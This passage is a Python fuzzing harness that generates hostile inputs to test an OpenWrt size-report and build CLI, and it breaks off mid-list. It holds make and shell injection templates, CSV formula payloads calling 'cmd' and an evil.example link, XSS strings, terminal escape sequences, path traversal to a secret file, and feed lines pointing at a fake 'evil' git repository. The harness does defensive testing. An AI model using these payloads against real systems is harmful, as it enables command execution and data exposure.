"""Hostile-input families for bench/bad_inputs.py (issue 20): records, store files,
profiles.json and manifests, baselines, values that reach make/configs/feeds, report injection,
secrets in URLs, and a few options that must be refused before any work. Every family is
generated (fixed seed), not a list of the issue's exact cases.

Each probe may carry an oracle besides the runner's own (traceback, error line, hang): a
sentinel file that only make code would create, secrets that must not appear in any output,
and per-format readers of the output (Python's csv module, markdown-it-py, strict JSON)."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import stat
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from openwrt_wolf.results.artifacts import Artifacts
from tests.records import build_data, footprint_data, memory_data

# what a finding is: "security" (code run, a secret or a file shown, an injection that
# survives into an output), "wrong" (an exit status or an output that lies)
Finding = tuple[str, str]
Check = Callable[[subprocess.CompletedProcess[str]], Finding | None]

# root without CAP_DAC_OVERRIDE: chmod 000 files are unreadable to it, as to any user
NO_DAC = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--"]


@dataclass
class Probe:
    argv: list[str]
    check: Check | None = None
    sentinel: Path | None = None  # created only if make/shell code from the input ran
    secrets: tuple[str, ...] = ()  # must appear in no output
    prefix: list[str] = field(default_factory=list)  # e.g. NO_DAC
    env: dict[str, str] = field(default_factory=dict)
    hostile: bool = True  # the raw-control-character oracle applies
    # bench/hostile_fs.py: made before the run; the file system's oracle after it (a
    # "data loss" or "leftover" finding besides "security" and "wrong"); SIGTERM or SIGKILL
    # (to its group) after so many seconds or once a condition holds; a FIFO read meanwhile
    setup: Callable[[], None] | None = None
    after: Callable[[], Finding | None] | None = None
    signal: tuple[float | Callable[[], bool], int] | None = None
    reader: Path | None = None

    @property
    def text(self) -> str:
        given = " ".join(repr(a) if not a.isprintable() or " " in a else a for a in self.argv)
        return f"[{' '.join(self.env)}] {given}" if self.env else given  # names, no values


# --- oracles shared by the families -------------------------------------------------------

_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def raw_controls(p: subprocess.CompletedProcess[str]) -> Finding | None:
    """An escape sequence or other control character reached the terminal or the log."""
    for name, text in (("stdout", p.stdout), ("stderr", p.stderr)):
        m = _CONTROL.search(text)
        if m:
            return "security", f"raw control character {m.group()!r} on {name}"
    return None


def csv_guarded(p: subprocess.CompletedProcess[str]) -> Finding | None:
    """Every CSV cell a spreadsheet would take as a formula is a number or starts with '."""
    for row in csv.reader(io.StringIO(p.stdout)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell.replace(",", ""))
                except ValueError:
                    return "security", f"CSV formula cell {cell[:40]!r}"
    return None


def markdown_clean(marker: str) -> Check:
    """markdown-it-py renders no HTML and no heading of the injected text (one that begins
    with the marker: ours begin with a device's title), and every table row has the header's
    number of cells."""

    def check(p: subprocess.CompletedProcess[str]) -> Finding | None:
        from markdown_it import MarkdownIt

        tokens = MarkdownIt("commonmark").enable("table").parse(p.stdout)
        cells, row = 0, 0
        for i, t in enumerate(tokens):
            if t.type in ("html_block", "html_inline") or any(
                c.type == "html_inline" for c in t.children or []
            ):
                return "security", f"Markdown passes HTML: {t.content[:60]!r}"
            if t.type == "heading_open" and tokens[i + 1].content.startswith(marker):
                return "security", f"Markdown heading injected: {tokens[i + 1].content[:60]!r}"
            if t.type == "thead_open":
                cells = -1
            elif t.type == "tr_open":
                row = 0
            elif t.type in ("th_open", "td_open"):
                row += 1
            elif t.type == "tr_close":
                if cells == -1:
                    cells = row
                elif row != cells:
                    return "security", f"a Markdown table row has {row} cells, its header {cells}"
        return None

    return check


def json_strict(p: subprocess.CompletedProcess[str]) -> Finding | None:
    if p.returncode != 0:
        return None

    def refuse(name: str) -> Any:
        raise ValueError(f"bare {name}")

    try:
        json.loads(p.stdout, parse_constant=refuse)
    except ValueError as e:
        return "wrong", f"JSON output is not JSON: {e}"
    return None


def html_clean(p: subprocess.CompletedProcess[str]) -> Finding | None:
    low = p.stdout.lower()
    for bad in ("<script>alert", "<img src=x"):
        if bad in low:
            return "security", f"HTML passes {bad!r}"
    return None


def fails(p: subprocess.CompletedProcess[str]) -> Finding | None:
    """The input is wrong: a zero exit status would be a wrong result."""
    if p.returncode == 0:
        return "wrong", "exit 0 on input that must be refused"
    return None


def all_of(*checks: Check | None) -> Check:
    def check(p: subprocess.CompletedProcess[str]) -> Finding | None:
        for c in checks:
            got = c(p) if c else None
            if got:
                return got
        return None

    return check


FORMAT_CHECKS: dict[str, Check] = {
    "terminal": lambda p: None,
    "markdown": markdown_clean("INJECTED"),
    "json": json_strict,
    "csv": csv_guarded,
    "html": html_clean,
}
FORMATS = tuple(FORMAT_CHECKS)


# --- records: a build, a memory, a footprint and a perf record, field values replaced ---

AR300 = "glinet_gl-ar300m16"
SYSUPGRADE = f"openwrt-25.12.5-ath79-generic-{AR300}-squashfs-sysupgrade.bin"


def _record(kind: str, key: str, device: str | None, flavour: str, data: Any) -> dict[str, Any]:
    return {
        "schema": "openwrt-wolf/record/1",
        "kind": kind,
        "key": key,
        "release": "25.12.5",
        "device": device,
        "flavour": flavour,
        "data": data,
        "created": "2026-11-01T08:00:00Z",
        "schema_version": 1,
    }


def build_record(flavour: str = "mbedtls", device: str = AR300) -> dict[str, Any]:
    fit = {
        "blocksize": 65536,
        "checked_size": 2490372,
        "erase_blocks": 38,
        "factory": None,
        "final_size": None,
        "headroom_blocks": 211,
        "kernel_size": 1900064,
        "limit": 16384000,
        "limit_name": "IMAGE_SIZE",
        "margin": 13893628,
        "metadata_size": None,
        "notes": [],
        "padding": 3926,
        "profile": AR300,
        "recipe": "ath79-default",
        "rootfs_room": 13831542,
        "rootfs_size": 586378,
        "verdict": "FITS",
    }
    rootfs = {
        "block_size": 262144,
        "compressor": "xz",
        "files": 14,
        "files_size": 1645883,
        "inodes": 28,
        "offset": 0,
        "package_source": "/lib/apk/packages/*.list",
        "packages": [{"files": 3, "name": "libmbedtls21", "size": 610000, "stored_size": 228700}],
        "size": 586378,
        "source": "root.squashfs",
        "tls_libraries": [
            {
                "group": "mbedtls",
                "package": "libmbedtls21",
                "path": "/usr/lib/libmbedcrypto.so.3.6.6",
                "size": 400000,
                "stored_size": 154240,
                "stripped": None,
                "xz_size": 153052,
            }
        ],
    }
    art = {
        "schema": "openwrt-wolf/artifacts/1",
        "profile": device,
        "source": "bin",
        "layout": "profiles.json 25.12",
        "release": "25.12.5",
        "target": "ath79/generic",
        "images": [
            {
                "name": SYSUPGRADE,
                "type": "sysupgrade",
                "size": 2490372,
                "sha256": None,
                "source": "profiles.json",
            }
        ],
        "file_size_limits": {"image": 16384000},
        "kernel_size": 1900064,
        "kernel_source": f"{AR300}-kernel.bin",
        "metadata_size": None,
        "split": None,
        "rootfs": rootfs,
        "fit": fit,
        "flavour": flavour,
        "manifest": [],
        "notes": [],
    }
    # a whole build record (results/build.py, version 2): its output is this Artifacts dict
    data = build_data([], output=Artifacts.from_dict(art), device=device, flavour=flavour)
    return _record("build", f"b-{flavour}", device, flavour, data)


def memory_record(flavour: str = "mbedtls") -> dict[str, Any]:
    # a whole record (results/memory.py): a partial one is skipped before any field is read
    return _record("memory", f"m-{flavour}", AR300, flavour, memory_data(61234, target="router"))


def footprint_record(flavour: str = "wolfssl") -> dict[str, Any]:
    data = footprint_data(flavour, installed=1399304, xz=431484, squashfs_cost=440001)
    return _record("footprint", f"f-{flavour}", None, flavour, data)


def perf_record(flavour: str = "mbedtls") -> dict[str, Any]:
    data = {
        "target": "vm",
        "emulated": True,
        "metrics": {"handshakes_tls13": {"value": 41.5, "unit": "1/s"}},
    }
    return _record("perf", f"p-{flavour}", "malta-be", flavour, data)


RUNTIME = (
    Path(__file__).resolve().parents[1] / "docs/records/openwrt-25.12.5-malta-be-runtime/records"
)


def image_record(kind: str) -> Callable[[], dict[str, Any]]:
    """A committed record of a real image's run (perf-image, perf-memory: issue 35's shapes)."""

    def make() -> dict[str, Any]:
        rec: dict[str, Any] = json.loads((RUNTIME / kind / IMAGE_KEY).read_text())
        return rec

    return make


IMAGE_KEY = "wolfssl-vm-image-af35280f2676-disk.json"
# a real build record as `invoke build` writes it (the file list, the fit, the request): the
# size report reads it whole as results/build.py's BuildRecord (issue 33)
JOB = Path(__file__).resolve().parents[1] / (
    "docs/records/openwrt-25.12.5-ath79/store/build/3391c24986470d9b26f2c82b478b8b52.json"
)


def job_record() -> dict[str, Any]:
    rec: dict[str, Any] = json.loads(JOB.read_text())
    return rec


MAKERS: dict[str, Callable[[], dict[str, Any]]] = {
    "build": build_record,
    "memory": memory_record,
    "footprint": footprint_record,
    "perf": perf_record,
    "perf-image": image_record("perf-image"),
    "perf-memory": image_record("perf-memory"),
    "build-job": job_record,
}
KIND_DIR = {"build-job": "build"}  # a maker's records stand under their kind's directory

JOB_FIELDS: list[tuple[str, str]] = [
    ("build-job", "data.request"),
    ("build-job", "data.request.variant"),
    ("build-job", "data.request.packages"),
    ("build-job", "data.fit"),
    ("build-job", "data.fit.limit"),
    ("build-job", "data.fit.factory"),
    ("build-job", "data.artifacts"),
    ("build-job", "data.artifacts.0.path"),
    ("build-job", "data.artifacts.2.size"),
    ("build-job", "data.artifacts.2.name"),
    # a version 1 record that claims a version: it is read as one, and lacks an output
    ("build-job", "data.version"),
    ("build-job", "data.manifest"),
    ("build-job", "data.openwrt_warnings"),
    ("build-job", "data.notes"),
    ("build-job", "data.device"),
]

# issue 35's fields of the real images' records (cpu split, host load, named soak errors, heap)
IMAGE_FIELDS: list[tuple[str, str]] = [
    ("perf-image", "data.cpu_split"),
    ("perf-image", "data.cpu_split.plain_http.user_ms"),
    ("perf-image", "data.host_load"),
    ("perf-image", "data.host_load.0"),
    ("perf-image", "data.soak.request_errors"),
    ("perf-image", "data.handshake_cpu.x25519.cpu_ms_per_handshake"),
    ("perf-image", "data.metrics.image_handshake_cpu_ms_x25519.value"),
    ("perf-memory", "data.server"),
    ("perf-memory", "data.server.0.peak"),
    ("perf-memory", "data.download.peak"),
    ("perf-memory", "data.metrics.download_heap_peak.value"),
    ("perf-memory", "data.reports.uhttpd"),
]

# (record kind, path of the field); "*" paths are walked into lists
FIELDS: list[tuple[str, str]] = [
    ("build", "device"),
    ("build", "flavour"),
    ("build", "release"),
    ("build", "created"),
    ("build", "data"),
    ("build", "data.output"),
    ("build", "data.output.fit"),
    ("build", "data.output.fit.checked_size"),
    ("build", "data.output.fit.limit"),
    ("build", "data.output.fit.rootfs_room"),
    ("build", "data.output.fit.verdict"),
    ("build", "data.output.fit.limit_name"),
    ("build", "data.output.fit.erase_blocks"),
    ("build", "data.output.fit.headroom_blocks"),
    ("build", "data.output.fit.notes"),
    ("build", "data.output.fit.factory"),
    ("build", "data.output.images"),
    ("build", "data.output.images.0"),
    ("build", "data.output.images.0.size"),
    ("build", "data.output.images.0.name"),
    ("build", "data.output.rootfs"),
    ("build", "data.output.rootfs.size"),
    ("build", "data.output.rootfs.packages"),
    ("build", "data.output.rootfs.tls_libraries.0.xz_size"),
    ("build", "data.output.rootfs.tls_libraries.0.path"),
    ("build", "data.output.rootfs.packages.0.name"),
    ("build", "data.output.rootfs.packages.0.stored_size"),
    ("build", "data.output.notes"),
    ("build", "data.output.notes.0"),
    ("build", "data.output.profile"),
    ("build", "data.output.manifest"),
    ("build", "data.output.file_size_limits"),
    ("build", "data.output.kernel_size"),
    # version 2 (results/build.py): the record's own version, and the fit it must carry
    ("build", "data.version"),
    ("build", "data.output.fit.final_size"),
    ("memory", "data.summary"),
    ("memory", "data.summary.MemFree"),
    ("memory", "data.summary.MemFree.median"),
    ("memory", "data.target"),
    ("memory", "data.memfree_kb"),
    ("memory", "data.per_boot"),
    ("memory", "data.root"),
    ("footprint", "data.xz"),
    ("footprint", "data.installed"),
    ("footprint", "data.config"),
    ("footprint", "data.arch"),
    ("footprint", "data.version"),
    ("footprint", "data.ecc"),
    ("footprint", "data.library"),
    ("footprint", "data.files"),
    ("perf", "data.metrics"),
    ("perf", "data.metrics.handshakes_tls13"),
    ("perf", "data.metrics.handshakes_tls13.value"),
    ("perf", "data.metrics.handshakes_tls13.unit"),
    ("perf", "data.target"),
    ("perf", "data.emulated"),
]

# raw JSON text put where the field's value was
VALUES: dict[str, str] = {
    "a string": '"12abc"',
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "1e400": "1e400",
    "10**400": str(10**400),
    "5,000 digits": "9" * 5000,
    "-5,000 digits": "-" + "9" * 5000,
    "true": "true",
    "null": "null",
    "a list": "[1, 2]",
    "an object": '{"a": 1}',
    "rich markup": '"[/bold]"',
    "terminal escapes": json.dumps("x\x1b]0;owned\x07\x1b[2J\x9b31m"),
    "negative": "-1",
    "2**64": str(2**64),
    "a long string": json.dumps("x" * 100_000),
    "deep nesting": "[" * 5000 + "]" * 5000,
}

PLACEHOLDER = "@@HOSTILE@@"


def _put(d: Any, path: str, value: Any) -> None:
    parts = path.split(".")
    for p in parts[:-1]:
        d = d[int(p)] if isinstance(d, list) else d[p]
    last = parts[-1]
    if isinstance(d, list):
        d[int(last) :] = [value]
    else:
        d[last] = value


def record_text(kind: str, path: str, raw: str) -> str:
    rec = MAKERS[kind]()
    _put(rec, path, PLACEHOLDER)
    return json.dumps(rec, indent=1).replace(json.dumps(PLACEHOLDER), raw)


def _store_with(w: Path, name: str, records: dict[str, str]) -> Path:
    """A store with a good build record of each flavour beside the hostile one(s)."""
    st = w / "stores" / name
    for f in ("mbedtls", "wolfssl"):
        good = build_record(f)
        (st / "build").mkdir(parents=True, exist_ok=True)
        (st / "build" / f"good-{f}.json").write_text(json.dumps(good))
    for rel, text in records.items():
        (st / rel).parent.mkdir(parents=True, exist_ok=True)
        (st / rel).write_text(text)
    return st


def records_family(
    w: Path, n: int = 110, fields: list[tuple[str, str]] | None = None, name: str = "rec"
) -> list[Probe]:
    rnd = random.Random(20)
    combos = [(k, f, v) for k, f in (fields or FIELDS) for v in VALUES]
    rnd.shuffle(combos)
    # every field at least once (its first value in the shuffle), then the rest up to n
    first = list({(k, f): (k, f, v) for k, f, v in reversed(combos)}.values())[::-1]
    chosen = first + [c for c in combos if c not in first]
    out = []
    for i, (kind, path, value) in enumerate(chosen[: max(n, len(first))]):
        st = _store_with(
            w,
            f"{name}-{i}",
            {f"{KIND_DIR.get(kind, kind)}/x{i}.json": record_text(kind, path, VALUES[value])},
        )
        fmt = FORMATS[i % len(FORMATS)]
        out.append(
            Probe(
                ["size-report", "--store", str(st), "--format", fmt],
                check=all_of(FORMAT_CHECKS[fmt]),
            )
        )
    return out


# --- store files: what stands where a record or a kind directory belongs ----------------


def _sparse(path: Path, size: int = 20 << 30) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as fh:
        fh.truncate(size)
    return path


def special(p: Path, kind: str) -> None:
    """What stands where a file belongs: a FIFO, a directory, a 20 GB sparse file, a
    symlink loop, a link to a device or to a FIFO, a file no one may read (chmod 000)."""
    if kind == "fifo":
        os.mkfifo(p)
    elif kind == "directory":
        p.mkdir()
    elif kind in ("sparse 20 GB", "sparse"):
        _sparse(p)
    elif kind in ("symlink loop", "loop"):
        p.symlink_to(p.name)
    elif kind in ("symlink to /dev/zero", "zero"):
        p.symlink_to("/dev/zero")
    elif kind == "symlink to /dev/null":
        p.symlink_to("/dev/null")
    elif kind == "symlink to a FIFO":
        os.mkfifo(p.with_suffix(".fifo"))
        p.symlink_to(p.with_suffix(".fifo").name)
    elif kind == "unreadable":
        p.write_text(json.dumps(build_record("openssl")))
        p.chmod(0)
    else:
        raise ValueError(kind)


def store_files_family(w: Path) -> list[Probe]:
    out: list[Probe] = []
    kinds = [
        "fifo",
        "directory",
        "sparse 20 GB",
        "symlink loop",
        "symlink to /dev/zero",
        "symlink to a FIFO",
        "unreadable",
        "symlink to /dev/null",
    ]
    for i, name in enumerate(kinds):
        for kind in ("build", "memory", "footprint"):
            st = _store_with(w, f"files-{i}-{kind}", {})
            (st / kind).mkdir(exist_ok=True)
            special(st / kind / "bad.json", name)
            fmt = FORMATS[(i + len(kind)) % len(FORMATS)]
            out.append(
                Probe(
                    ["size-report", "--store", str(st), "--format", fmt],
                    check=FORMAT_CHECKS[fmt],
                    prefix=NO_DAC,
                )
            )
    # a kind directory that cannot be read: --fail-on must not pass on "0 checked"
    for kind in ("build", "memory"):
        st = _store_with(
            w, f"dir-unreadable-{kind}", {f"{kind}/m.json": json.dumps(MAKERS[kind]())}
        )
        (st / kind).chmod(0)
        out.append(
            Probe(
                ["size-report", "--store", str(st), "--fail-on", "fits"], check=fails, prefix=NO_DAC
            )
        )
    st = _store_with(w, "kind-is-file", {})
    for kind in ("memory", "perf"):
        (st / kind).write_text("not a directory")
    out.append(Probe(["size-report", "--store", str(st)]))
    st = _store_with(w, "kind-loop", {})
    (st / "memory").symlink_to("memory")
    out.append(Probe(["size-report", "--store", str(st)]))
    st = _store_with(w, "history-fifo", {})
    (st / "build" / ".history" / "b-mbedtls").mkdir(parents=True)
    os.mkfifo(st / "build" / ".history" / "b-mbedtls" / "x.json")
    out.append(Probe(["history", "--store", str(st), "--device", "gl-ar300m16"]))
    out.append(
        Probe(
            [
                "history",
                "--store",
                str(st / "build" / "good-mbedtls.json"),
                "--device",
                "gl-ar300m16",
            ]
        )
    )
    return out


# --- profiles.json, manifests and sha256sums of a --from directory ---------------------


def _outdir(w: Path, name: str) -> Path:
    d = w / "outdirs" / name
    d.mkdir(parents=True)
    return d


def _profiles(images: Any, **spec: Any) -> dict[str, Any]:
    return {
        "version_number": "25.12.5",
        "target": "ath79/generic",
        "profiles": {AR300: {"images": images, **spec}},
    }


def profiles_family(w: Path, secret_file: Path, secret: str) -> list[Probe]:
    rel = os.path.relpath(secret_file, w / "outdirs" / "x")
    names = [
        rel,
        "../" * 12 + str(secret_file).lstrip("/"),
        str(secret_file),
        f"sub/../{rel}",
        "..",
        ".",
        "",
        "a\x00b",
        "x\n### INJECTED",
        "\x1b]0;owned\x07.bin",
        f"{rel}-squashfs-sysupgrade.bin",
    ]
    docs: list[Any] = [
        [],
        "x",
        {"profiles": []},
        {"profiles": {AR300: []}},
        {"profiles": {AR300: None}},
        _profiles("x"),
        _profiles([1, 2]),
        _profiles([{"type": "sysupgrade"}]),
        _profiles([{"name": 5, "type": "sysupgrade"}]),
        _profiles([{"name": SYSUPGRADE, "type": "sysupgrade", "size": "12abc"}]),
        _profiles([{"name": SYSUPGRADE, "type": "sysupgrade", "size": -5}]),
        _profiles([{"name": SYSUPGRADE, "type": ["x"], "size": 5}]),
        _profiles([], file_size_limits="x"),
        _profiles([], file_size_limits={"image": "x"}),
        _profiles([], file_size_limits={"image": [1]}),
        {"profiles": {"../x": {"images": []}}},
        {**_profiles([]), "version_number": 25},
        {**_profiles([]), "target": ["x"]},
    ]
    raw_docs = [
        json.dumps(_profiles([{"name": SYSUPGRADE, "type": "sysupgrade", "size": 1}])).replace(
            '"size": 1', f'"size": {v}'
        )
        for v in ("NaN", "Infinity", "1e400", str(10**400), "9" * 5000)
    ]
    out: list[Probe] = []
    for i, n in enumerate(names):
        d = _outdir(w, f"name-{i}")
        (d / "profiles.json").write_text(
            json.dumps(_profiles([{"name": n, "type": "sysupgrade", "size": 100}]))
        )
        (d / "root.squashfs").write_bytes(b"hsqs" + b"\0" * 60)
        out.append(Probe(["size-report", "--from", str(d)], secrets=(secret,)))
        if n and "\0" not in n:  # an argument cannot hold a NUL
            out.append(
                Probe(["fit", "--device", "gl-ar300m16", "--image", str(d / n)], secrets=(secret,))
            )
    for i, doc in enumerate(docs):
        d = _outdir(w, f"doc-{i}")
        (d / "profiles.json").write_text(json.dumps(doc))
        fmt = FORMATS[i % len(FORMATS)]
        out.append(
            Probe(
                ["size-report", "--from", str(d), "--format", fmt],
                check=FORMAT_CHECKS[fmt],
                secrets=(secret,),
            )
        )
    for i, text in enumerate(raw_docs):
        d = _outdir(w, f"raw-{i}")
        (d / "profiles.json").write_text(text)
        out.append(Probe(["size-report", "--from", str(d), "--format", "json"], check=json_strict))
    for name in ("fifo", "sparse", "directory", "loop", "zero", "unreadable"):
        for what in ("profiles.json", f"openwrt-25.12.5-ath79-generic-{AR300}.manifest"):
            d = _outdir(w, f"special-{name}-{what[:8]}")
            if what != "profiles.json":
                (d / "profiles.json").write_text(json.dumps(_profiles([])))
                (d / f"{AR300}-kernel.bin").write_bytes(b"\0" * 64)
            special(d / what, name)
            out.append(Probe(["size-report", "--from", str(d)], prefix=NO_DAC))
    # the directory itself: a loop, unreadable, a FIFO
    d = w / "outdirs" / "loopdir"
    d.symlink_to("loopdir")
    out.append(Probe(["size-report", "--from", str(d)]))
    d = _outdir(w, "unreadable-dir")
    (d / "profiles.json").write_text(json.dumps(_profiles([])))
    d.chmod(0)
    out.append(Probe(["size-report", "--from", str(d)], prefix=NO_DAC))
    return out


# --- baselines ------------------------------------------------------------------------

SIZE_SCHEMA = "openwrt-wolf/size-report/1"


def baselines_family(w: Path, store: Path) -> list[Probe]:
    good_cell = {
        "source": "x",
        "tls_xz": 1,
        "rootfs": 2,
        "image": 3,
        "erase_blocks": 4,
        "headroom": 5,
        "headroom_blocks": 6,
        "margin": 7,
    }
    shapes: list[Any] = [
        [],
        None,
        5,
        {"schema": SIZE_SCHEMA},
        {"schema": SIZE_SCHEMA, "devices": {}},
        {"schema": SIZE_SCHEMA, "devices": "x"},
        {"schema": SIZE_SCHEMA, "devices": [1]},
        {"schema": SIZE_SCHEMA, "devices": [{}]},
        {"schema": SIZE_SCHEMA, "devices": [{"profile": AR300}]},
        {"schema": SIZE_SCHEMA, "devices": [{"profile": AR300, "cells": []}]},
        {"schema": SIZE_SCHEMA, "devices": [{"profile": AR300, "cells": {"mbedtls": 5}}]},
        {"schema": SIZE_SCHEMA, "devices": [{"profile": 5, "cells": {"mbedtls": good_cell}}]},
        {
            "schema": SIZE_SCHEMA,
            "devices": [{"profile": AR300, "cells": {"mbedtls": {**good_cell, "image": "x"}}}],
        },
        {"schema": SIZE_SCHEMA, "created": ["x"], "devices": []},
        {
            "schema": SIZE_SCHEMA,
            "devices": [{"profile": "x\x1b[2J", "release": [1], "cells": {"mbedtls": good_cell}}],
        },
    ]
    out: list[Probe] = []
    bdir = w / "baselines"
    bdir.mkdir()
    for i, doc in enumerate(shapes):
        f = bdir / f"shape-{i}.json"
        f.write_text(json.dumps(doc))
        fmt = FORMATS[i % len(FORMATS)]
        out.append(
            Probe(
                ["size-report", "--store", str(store), "--baseline", str(f), "--format", fmt],
                check=FORMAT_CHECKS[fmt],
            )
        )
    for i, v in enumerate(("NaN", "Infinity", "1e400", str(10**400), "9" * 5000)):
        f = bdir / f"num-{i}.json"
        cell = json.dumps({**good_cell, "image": 12345}).replace("12345", v)
        f.write_text(
            f'{{"schema": "{SIZE_SCHEMA}", "devices": [{{"profile": "{AR300}", '
            f'"cells": {{"mbedtls": {cell}}}}}]}}'
        )
        out.append(
            Probe(
                ["size-report", "--store", str(store), "--baseline", str(f), "--format", "json"],
                check=json_strict,
            )
        )
    for name in ("fifo", "sparse", "loop", "zero", "unreadable"):
        f = bdir / f"special-{name}.json"
        special(f, name)
        out.append(
            Probe(["size-report", "--store", str(store), "--baseline", str(f)], prefix=NO_DAC)
        )
    return out


# --- values that reach make, config files and feeds ------------------------------------


def make_values_family(w: Path) -> list[Probe]:
    from tests.build import mini_ib  # GNU make expanding $(PACKAGES) and $(FILES)

    ib = mini_ib.make(w / "mini-ib")
    out: list[Probe] = []
    templates = [
        "$(shell touch {s})",
        "`touch {s}`",
        "$$(shell touch {s})",
        "${{shell touch {s}}}",
        "foo;touch {s}",
        "foo $(shell touch {s})",
        "foo\n\ttouch {s}",
        "-$(shell touch {s})",
        "luci,$(shell touch {s})",
        "$(eval $$(shell touch {s}))",
        "$(file >{s},x)",
        "foo' $(shell touch {s}) '",
        'foo" $(shell touch {s}) "',
        "foo\\\n$(shell touch {s})",
    ]
    base = ["--flavour", "mbedtls", "--device", "tl-wr902ac"]
    for i, t in enumerate(templates):
        s = w / "sentinels" / f"pk-{i}"
        v = t.format(s=s)
        out.append(
            Probe(
                ["build", "--no-report", *base, "--imagebuilder", str(ib), "--packages", v],
                sentinel=s,
            )
        )
        out.append(
            Probe(
                [
                    "build",
                    "--no-report",
                    *base,
                    "--imagebuilder",
                    str(ib),
                    "--files",
                    v.replace("\n", ""),
                ],
                sentinel=s,
            )
        )
    lines = [
        "foo\nCONFIG_EVIL=y",
        "foo\r\nCONFIG_EVIL=y",
        "CONFIG_EVIL=y",
        "a=b",
        "foo\x1b[2J",
        "foo # CONFIG_X is not set",
        "foo\u2028CONFIG_EVIL=y",
        "foo\x7fbar",
        "-",
        "--",
        "a" * 300,
    ]

    def no_evil(p: subprocess.CompletedProcess[str]) -> Finding | None:
        for ln in p.stdout.splitlines():
            if ln.strip().startswith("CONFIG_EVIL") or "src-git evil" in ln:
                return "security", f"injected line {ln[:60]!r}"
        return None

    for v in lines:
        for what in ("packages", "diffconfig", "buildroot"):
            out.append(
                Probe(
                    ["build-config", *base, "--what", what, "--packages", v],
                    check=all_of(no_evil, fails),
                )
            )
    feeds = [
        "/tmp/x\nsrc-git evil https://example.com/evil.git",
        "/tmp/a b",
        "/tmp/a#b",
        "/tmp/x\rsrc-git evil https://e",
        "/tmp/\x1b[2Jx",
        "/tmp/x\tsrc-git evil e",
        "/tmp/x\u2028src-git evil e",
        "/tmp/x\x0bsrc-git evil e",
    ]

    def feeds_ok(p: subprocess.CompletedProcess[str]) -> Finding | None:
        rx = re.compile(r"^src-[\w-]+((\s+--\w+(=\S+)?)*)\s+(\w+)(\s+(\S.*))?$")
        for ln in p.stdout.splitlines():
            body = re.sub(r"#.+$", "", ln)
            if not body.strip():
                continue
            m = rx.match(body)
            if not m or m.group(4) == "evil" or len((m.group(6) or "").split()) > 1:
                return "security", f"feeds.conf line {ln[:60]!r}"
        return None

    for v in feeds:
        out.append(
            Probe(
                ["build-config", *base, "--what", "feeds", "--feed", v],
                check=all_of(feeds_ok, fails),
            )
        )
    return out


# --- report injection: names in records, per format -------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "a|b|c",
    "x\n### INJECTED heading",
    "x\n\n<img src=x onerror=alert(1)>",
    "[/bold]",
    "[link=http://evil.example]x[/link]",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\x9b31mred",
    "x\u202eevil",
    "# INJECTED",
    "- INJECTED",
    "1. INJECTED",
    "> INJECTED",
    "`INJECTED`",
    "*INJECTED*",
    "x\r\n## INJECTED",
]

# where a name travels from a record into a report
PLACES: list[tuple[str, str]] = [
    ("build", "device"),
    ("build", "flavour"),
    ("build", "data.output.notes.0"),
    ("build", "data.output.images.0.name"),
    ("build", "data.output.fit.limit_name"),
    ("build", "data.output.rootfs.packages.0.name"),
    ("build", "data.output.rootfs.tls_libraries.0.path"),
    ("build", "data.output.target"),
    ("build", "release"),
    ("footprint", "data.config"),
    ("footprint", "data.arch"),
    ("footprint", "data.version"),
    ("footprint", "flavour"),
    ("perf", "data.target"),
    ("perf", "device"),
]


def _injected(kind: str, paths: list[str], payload: str) -> str:
    rec = MAKERS[kind]()
    for path in paths:
        _put(rec, path, payload)
    return json.dumps(rec, indent=1)


def report_injection_family(w: Path, n: int = 40) -> list[Probe]:
    """Each payload in a device name, a flavour name, a note, a footprint's config and a
    perf record's target at once, in every format; then single places at random."""
    out = []
    for i, payload in enumerate(PAYLOADS):
        st = _store_with(
            w,
            f"inj-{i}",
            {
                "build/x.json": _injected("build", ["device", "data.output.notes.0"], payload),
                "build/y.json": _injected("build", ["flavour"], payload),
                "footprint/x.json": _injected("footprint", ["data.config"], payload),
                "perf/x.json": _injected("perf", ["data.target"], payload),
            },
        )
        for fmt in FORMATS:
            out.append(
                Probe(
                    ["size-report", "--store", str(st), "--format", fmt], check=FORMAT_CHECKS[fmt]
                )
            )
    rnd = random.Random(21)
    combos = [(k, f, p) for k, f in PLACES for p in PAYLOADS]
    rnd.shuffle(combos)
    for i, (kind, path, payload) in enumerate(combos[:n]):
        st = _store_with(
            w, f"inj1-{i}", {f"{kind}/x{i}.json": record_text(kind, path, json.dumps(payload))}
        )
        fmt = FORMATS[i % len(FORMATS)]
        args = ["--packages", "3"] if i % 2 else []
        out.append(
            Probe(
                ["size-report", "--store", str(st), "--format", fmt, *args],
                check=FORMAT_CHECKS[fmt],
            )
        )
    for i, payload in enumerate(PAYLOADS[:10]):
        st = _store_with(
            w,
            f"hist-{i}",
            {
                f"build/h{i}.json": record_text(
                    "build",
                    "data.output.fit.verdict" if i % 2 else "flavour",
                    json.dumps(payload),
                )
            },
        )
        fmt = FORMATS[i % len(FORMATS)]
        out.append(
            Probe(
                ["history", "--store", str(st), "--device", "gl-ar300m16", "--format", fmt],
                check=FORMAT_CHECKS[fmt],
            )
        )
    return out


# --- secrets in URLs -------------------------------------------------------------------


def secrets_family(secret: str, redis_url: str | None) -> list[Probe]:
    s = secret
    urls = [
        f"redis://:pa#ss-{s}@127.0.0.1:9/0",
        f"redis://:pa/ss-{s}@127.0.0.1:9/0",
        f"redis://:pa?ss-{s}@127.0.0.1:9/0",
        f"redis://127.0.0.1:9/0?password={s}",
        f"redis://{s}@127.0.0.1:9/0",
        f"redis://user:{s}@127.0.0.1:9/0",
        f"redis://:{s}@[::1/0",
        f"redis://:{s}@[::1",
        f"rediss://:{s}@127.0.0.1:9/0?ssl_cert_reqs=bogus",
